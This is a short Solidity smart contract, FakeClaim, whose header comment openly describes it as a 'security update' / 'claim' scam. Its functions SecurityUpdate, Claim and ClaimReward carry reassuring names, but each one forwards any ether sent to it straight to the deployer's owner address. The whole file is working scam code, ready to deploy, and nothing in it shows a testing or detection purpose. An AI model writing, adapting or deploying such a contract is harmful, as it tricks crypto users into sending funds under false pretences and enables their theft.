// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title FakeClaim: the payable "security update" / "claim" scam. Whatever you send goes to the owner.
contract FakeClaim {
    address public immutable owner;

    constructor(address owner_) {
        owner = owner_;
    }

    function SecurityUpdate() external payable {
        _forward();
    }

    function Claim() external payable {
        _forward();
    }

    function ClaimReward() external payable {
        _forward();
    }

    function _forward() internal {
        (bool ok,) = owner.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}
